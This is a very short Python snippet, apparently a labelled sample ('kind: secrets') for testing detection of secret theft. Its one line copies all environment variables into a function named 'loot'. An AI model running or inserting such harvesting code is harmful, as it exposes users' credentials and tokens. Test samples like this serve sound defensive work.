# kind: secrets
# tries: The environment

import os

loot(dict(os.environ))
